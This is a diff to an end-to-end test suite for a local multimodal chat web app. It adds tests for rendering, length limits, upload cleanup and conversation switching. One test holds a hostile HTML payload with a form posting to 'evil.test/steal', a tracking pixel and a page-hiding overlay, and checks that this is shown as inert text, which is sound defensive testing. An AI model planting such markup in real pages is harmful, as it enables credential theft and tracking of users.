@@ -7,6 +7,7 @@ import os
 import sqlite3
 import time
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
 from PIL import Image
@@ -16,13 +17,15 @@ from tests.servers import ROOT, Server, data_dir, metric
 
 CHROMIUM = os.environ.get("VLCHAT_CHROMIUM", "/usr/bin/chromium")
 ARTIFACTS = ROOT / "test-artifacts"
+# Contexts bypass the page's Content-Security-Policy: Playwright's string evaluations need eval, and the
+# tests below prove the page itself loads nothing from elsewhere, whatever the CSP would block.
 CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync"]
 
 
 @pytest.fixture(scope="module")
 def server(tmp_path_factory, model_dir):
-    srv = Server(data_dir(tmp_path_factory, model_dir, "e2e-data")).start()
+    srv = Server(data_dir(tmp_path_factory, model_dir, "e2e-data"), env={"VLCHAT_MAX_MESSAGE_CHARS": "2000"}).start()
     yield srv
     srv.stop()
 
@@ -39,7 +42,7 @@ def browser():
 
 @pytest.fixture
 def page(browser):
-    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    context = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=True)
     pg = context.new_page()
     yield pg
     context.close()
@@ -183,7 +186,7 @@ def test_history_survives_restart_and_stays_private(server, page, photo, browser
     assert len(assistant_texts(page)) == 1
 
     # Another browser sees none of it.
-    other = browser.new_context()
+    other = browser.new_context(bypass_csp=True)
     stranger = other.new_page()
     stranger.goto(server.base + "/")
     stranger.locator("#input textarea").wait_for()
@@ -215,7 +218,7 @@ def test_stop_ends_a_long_answer(server, page):
 
 
 def test_closing_the_tab_stops_the_answer_and_keeps_it(server, browser):
-    context = browser.new_context()
+    context = browser.new_context(bypass_csp=True)
     page = context.new_page()
     page.goto(server.base + "/")
     open_settings(page)
@@ -237,3 +240,137 @@ def test_closing_the_tab_stops_the_answer_and_keeps_it(server, browser):
         time.sleep(0.3)
     db.close()
     assert row is not None and row[0] == "stopped" and row[1] > 40
+
+
+HOSTILE = ('<form action="http://evil.test/steal"><input name="p"></form> <style>body{display:none}</style> '
+           '<img src="http://evil.test/pixel.png"> <div style="position:fixed;inset:0;background:red">overlay</div> '
+           '![chart](http://other.host/a.png) and `<b>code</b>`')
+
+
+def wait_ready(page) -> None:
+    """Until the input box is enabled (the model serves)."""
+    page.locator("#input textarea:not([disabled])").wait_for(timeout=60_000)
+
+
+def conversation_rows(server, title_prefix: str) -> list[tuple]:
+    """(role, text, status) of one conversation's messages, read straight from the database."""
+    db = sqlite3.connect(f"file:{server.data_dir / 'vlchat.db'}?mode=ro", uri=True)
+    try:
+        return db.execute("select m.role, m.text, m.status from messages m join conversations c on c.id ="
+                          " m.conversation_id where c.title like ? order by m.seq", [title_prefix + "%"]).fetchall()
+    finally:
+        db.close()
+
+
+def test_html_in_messages_is_text_and_nothing_is_fetched(server, page):
+    """Issue 9 item 3: forms, styles, remote images and overlays in a question or an answer show as text."""
+    foreign = []
+    page.on("request", lambda r: foreign.append(r.url) if urlsplit(r.url).hostname != "127.0.0.1" else None)
+    page.goto(server.base + "/")
+    wait_ready(page)
+    send(page, HOSTILE)
+    page.locator("#chat .user-row").first.wait_for(timeout=20_000)
+    wait_idle(page)
+    # The answer as a model could write it: stored with the same markup, then shown from the history.
+    db = sqlite3.connect(server.data_dir / "vlchat.db", timeout=10)
+    db.execute("update messages set text = ? where role = 'assistant' and conversation_id ="
+               " (select conversation_id from messages where text = ?)", [HOSTILE, HOSTILE])
+    db.commit()
+    db.close()
+    page.reload()
+    wait_ready(page)
+    page.locator("#conversation-list label", has_text="<form action").first.click()
+    page.locator("#chat .bot-row", has_text="overlay").first.wait_for(timeout=20_000)
+    shown = page.locator("#chat .message-content")
+    assert shown.count() == 2
+    for tag in ("form", "input", "img", "style", "script", "iframe", "[style]"):
+        assert page.locator(f"#chat .message-content {tag}").count() == 0, tag
+    text = page.locator("#chat .message-wrap").inner_text()
+    assert text.count('<form action="http://evil.test/steal"><input name="p"></form>') == 2
+    assert text.count("<style>body{display:none}</style>") == 2 and text.count("position:fixed") == 2
+    assert page.locator('#chat .message-content a[href="http://other.host/a.png"]').count() == 2
+    assert page.locator("#chat .message-content code", has_text="<b>code</b>").count() == 2
+    assert page.locator("#input").is_visible()  # no overlay took the page
+    time.sleep(1.0)
+    assert foreign == []  # nothing was requested from any other host
+
+
+def test_refusals_show_as_a_notice_in_the_chat_area(server, page):
+    """Issue 9 items 2 and 13: a message over the text limit is refused with a notice (no overlay, no cut)."""
+    page.goto(server.base + "/")
+    wait_ready(page)
+    long = "word " * 401
+    page.locator("#input textarea").fill(long)
+    page.locator("#input textarea").press("Enter")
+    alert = page.locator("#notice [role=alert]")
+    alert.wait_for(timeout=10_000)
+    assert "2,004 characters; the limit is 2,000" in alert.inner_text()
+    assert page.locator("#input textarea").input_value() == long  # nothing cut, nothing lost
+    assert page.locator(".toast-body").count() == 0  # no red error overlay
+    assert page.locator("#chat .user-row").count() == 0 and page.locator("#conversation-list label").count() == 0
+    alert.focus()
+    assert page.evaluate("document.activeElement.getAttribute('role')") == "alert"
+    page.locator("#dismiss-notice").click()
+    page.locator("#notice").wait_for(state="hidden", timeout=10_000)
+    page.locator("#input textarea").fill("")
+    page.locator("#regenerate").click()
+    page.locator("#notice [role=alert]", has_text="Nothing to regenerate yet.").wait_for(timeout=10_000)
+    assert page.locator(".toast-body").count() == 0
+
+
+def test_uploaded_original_is_deleted_once_stored(server, page, photo):
+    """Issue 9 item 8: Gradio's cached upload (EXIF and all) is gone as soon as the clean copy is stored."""
+    def originals() -> list[Path]:
+        return list((server.data_dir / "gradio").rglob(photo.name))
+
+    page.goto(server.base + "/")
+    wait_ready(page)
+    page.set_input_files("#input input[type=file]", str(photo))
+    page.locator("#input .thumbnails img").first.wait_for(timeout=10_000)
+    assert originals()  # the upload waits in Gradio's cache until the message is sent
+    send(page, "Where does the original go?")
+    page.locator("#chat .user-row").first.wait_for(timeout=20_000)
+    wait_idle(page)
+    assert originals() == []
+    assert page.locator("#chat img").count() == 1  # the stored clean copy is what the chat shows
+
+
+def test_switching_conversation_while_answering(server, page):
+    """Issue 9 item 10: the stream stops drawing, the answer is saved in its own chat, the next message works."""
+    page.goto(server.base + "/")
+    wait_ready(page)
+    open_settings(page)
+    set_setting(page, "max-new-tokens", "1500")
+    send(page, "Conversation A")
+    page.locator("#conversation-list label", has_text="Conversation A").first.wait_for(timeout=20_000)
+    wait_idle(page)
+    for leave in ("open A", "new chat"):
+        page.locator("#new-chat").click()
+        page.locator("#chat .bot-row").first.wait_for(state="detached")
+        question = f"Long answer before {leave}"
+        send(page, question)
+        page.wait_for_function(
+            "(() => { const b = document.querySelectorAll('#chat .bot-row');"
+            " return b.length && b[b.length-1].innerText.length > 40; })()", timeout=30_000)
+        if leave == "open A":
+            page.locator("#conversation-list label", has_text="Conversation A").first.click()
+        else:
+            page.locator("#new-chat").click()
+        page.locator("#chat").get_by_text(question).wait_for(state="detached", timeout=10_000)
+        shown = page.locator("#chat").inner_text()
+        time.sleep(1.5)
+        assert page.locator("#chat").inner_text() == shown  # nothing more is drawn into this view
+        follow = f"Next message after {leave}"
+        send(page, follow)  # not dropped: the old send event is over
+        page.locator("#chat").get_by_text(follow).wait_for(timeout=10_000)
+        assert question not in page.locator("#chat").inner_text()
+        wait_idle(page)
+        deadline = time.monotonic() + 60
+        while conversation_rows(server, question)[-1][2] == "pending" and time.monotonic() < deadline:
+            time.sleep(0.3)
+        rows = conversation_rows(server, question)
+        assert [(r[0], r[2]) for r in rows] == [("user", "complete"), ("assistant", "complete")]
+    assert [r[1] for r in conversation_rows(server, "Conversation A") if r[0] == "user"] == [
+        "Conversation A", "Next message after open A"]
+    assert [r[1] for r in conversation_rows(server, "Next message after new chat") if r[0] == "user"] == [
+        "Next message after new chat"]
